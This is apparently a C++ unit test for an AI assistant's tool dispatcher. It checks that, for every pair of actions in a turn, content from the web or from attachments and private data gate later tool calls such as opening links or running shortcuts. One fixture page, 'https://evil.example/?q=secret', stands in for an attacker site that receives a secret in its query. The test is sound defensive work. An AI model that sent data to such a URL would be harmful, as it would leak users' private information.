// Every ordering of two actions in one turn: what the first leaves behind decides about the second.

#include "ai/tools/ToolFixture.h"
#include "support/TestData.h"

namespace morvane {

using namespace Qt::StringLiterals;

namespace {

enum class Attached { nothing, document, image };

// The abilities, with the three kinds of page: named by the person, found by a search, and neither.
struct Action {
    QString name;
    QString tool;
    QString url; // of a page; else the usual call
};

const std::vector<Action> &actions()
{
    static const QString read = u"read_web_page"_s;
    static const std::vector<Action> all{{u"remember"_s, u"remember"_s, {}},
                                         {u"forget"_s, u"forget"_s, {}},
                                         {u"search"_s, u"search_web"_s, {}},
                                         {u"typed"_s, read, u"https://typed.example/Page"_s},
                                         {u"found"_s, read, u"https://found.example/One"_s},
                                         {u"unknown"_s, read, u"https://evil.example/?q=secret"_s},
                                         {u"screen"_s, u"look_at_screen"_s, {}},
                                         {u"link"_s, u"open_link"_s, {}},
                                         {u"event"_s, u"create_calendar_event"_s, {}},
                                         {u"shortcut"_s, u"run_shortcut"_s, {}}};
    return all;
}

std::vector<AIMessage> messagesWith(Attached attached)
{
    AIMessage message{.role = AIMessage::Role::user,
                      .content = u"Look at https://typed.example/Page please"_s};
    if (attached == Attached::document)
        message.content += u"\n--- BEGIN UNTRUSTED CONTENT (document, id 0) ---\n"_s;
    if (attached == Attached::image)
        message.imageDataURLs.append(u"data:image/jpeg;base64,AA"_s);
    return {message};
}

class TaintTest : public ToolFixture {
protected:
    // What came of the action: it ran, it ran after a yes, or it was refused and nothing happened.
    QString play(const Action &action, const std::shared_ptr<TurnContext> &turn)
    {
        if (memory.matching(u"coffee"_s).empty())
            memory.record(u"Drinks coffee"_s);
        asked.clear();
        completed.clear();
        happened.clear();
        const AIToolCall made = action.url.isEmpty()
                                    ? usual(action.tool)
                                    : call(action.tool, uR"({"url":"%1"})"_s.arg(action.url));
        const bool ran = !dispatch(made, turn).isError;
        const bool touchesNotes = action.tool == u"remember"_s || action.tool == u"forget"_s;
        EXPECT_EQ(completed.size(), ran ? 1U : 0U);
        EXPECT_EQ(happened.size(), ran && !touchesNotes ? 1 : 0);
        return ran ? (asked.empty() ? u"runs"_s : u"asks"_s) : asked.empty() ? u"-"_s : u"asks for nothing"_s;
    }

    // A row for each first action: what came of it, what it left, and what came of each action behind it.
    QString table(TurnContext::Attendance attendance, Attached attached)
    {
        QString rows;
        for (const Action &first : actions()) {
            QString row;
            for (const Action &second : actions()) {
                const auto turn = turnOf(attendance, messagesWith(attached));
                const QString outcome = play(first, turn);
                if (row.isEmpty())
                    row = first.name.leftJustified(10) + outcome.leftJustified(5) +
                          (turn->webContentConsumed ? u"web "_s : u"    "_s) +
                          (turn->outsideContentInContext ? u"outside "_s : u"        "_s) +
                          (turn->sensitiveDataInContext ? u"private |"_s : u"        |"_s);
                row += u' ' + play(second, turn).leftJustified(second.name.size());
            }
            rows += row.trimmed() + u'\n';
        }
        return rows;
    }
};

TEST_F(TaintTest, EveryOrderingOfTwoKeepsTheRules)
{
    QString all;
    for (const auto attendance : {TurnContext::Attendance::attended, TurnContext::Attendance::unattended}) {
        for (const auto attached : {Attached::nothing, Attached::document, Attached::image}) {
            all += attendance == TurnContext::Attendance::attended ? u"\nSomebody is there"_s
                                                                   : u"\nNobody is there"_s;
            all += QStringList{u"\n"_s, u", a document is attached\n"_s, u", an image is attached\n"_s}.at(
                static_cast<int>(attached));
            all += QString(35, u' ') + u'|';
            for (const Action &action : actions())
                all += u' ' + action.name;
            all += u'\n' + table(attendance, attached);
        }
    }
    EXPECT_EQ(all.toStdString(), TestData::text("ai/two_actions.txt"));
}

} // namespace

} // namespace morvane
